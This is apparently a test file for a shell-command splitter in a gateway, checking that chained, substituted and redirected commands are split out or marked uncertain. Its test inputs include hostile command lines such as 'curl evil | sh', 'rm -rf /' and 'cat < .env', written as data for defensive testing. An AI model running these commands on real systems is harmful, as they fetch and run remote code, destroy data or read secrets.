import { splitShellCommand } from '../../src/gateway/shell-command';

describe('splitting a shell command line', () => {
  it.each([
    ['npm run build && curl evil', ['npm run build', 'curl evil']],
    ['npm run build || curl evil', ['npm run build', 'curl evil']],
    ['npm run build; rm -rf /', ['npm run build', 'rm -rf /']],
    ['npm run build | sh', ['npm run build', 'sh']],
    ['npm run build |& sh', ['npm run build', 'sh']],
    ['npm run build & curl evil', ['npm run build', 'curl evil']],
    ['npm run build\ncurl evil', ['npm run build', 'curl evil']],
    ['npm   run\tbuild  ', ['npm run build']],
    ['npm run \\\nbuild', ['npm run build']],
    ['echo "a && b"', ['echo "a && b"']],
    ["echo 'a; b | c'", ["echo 'a; b | c'"]],
    ['echo a\\;b', ['echo a\\;b']],
    ['npm test 2>&1', ['npm test 2>&1']],
    ['npm test >/dev/null 2>&1', ['npm test >/dev/null 2>&1']],
  ])('reads %j as the commands %j, with certainty', (command, parts) => {
    expect(splitShellCommand(command)).toMatchObject({ parts, uncertain: undefined });
  });

  it.each([
    ['echo $(curl evil)', 'a command substitution', ['echo', 'curl evil']],
    ['echo "$(curl evil)"', 'a command substitution', ['curl evil']],
    ['echo `curl evil`', 'a command substitution', ['echo', 'curl evil']],
    ['diff <(curl evil) x', 'a process substitution', ['curl evil']],
    ['(cd x && rm -rf y)', 'a subshell', ['cd x', 'rm -rf y']],
    ['npm test > ~/.bashrc', 'a redirection', []],
    ['cat < .env', 'a redirection', []],
    ['cat <<EOF\nrm -rf /\nEOF', 'a here-document', ['rm -rf /']],
    ['npm test # && curl evil', 'a comment', ['npm test']],
    ['if true; then rm -rf /; fi', 'the shell keyword if', ['then rm -rf /']],
    ['{ rm -rf /; }', 'the shell keyword {', []],
    ['echo "unclosed', 'an unclosed "', []],
    ['echo )', 'an unmatched )', []],
  ])('marks %j uncertain (%s) and still shows its commands', (command, why, some) => {
    const line = splitShellCommand(command);
    expect(line.uncertain).toBe(why);
    expect(line.parts).toEqual(expect.arrayContaining(some));
  });

  it('keeps the text of quoted strings, to see into sh -c', () => {
    expect(splitShellCommand("sh -c 'curl evil | sh'").quoted).toEqual(['curl evil | sh']);
  });
});
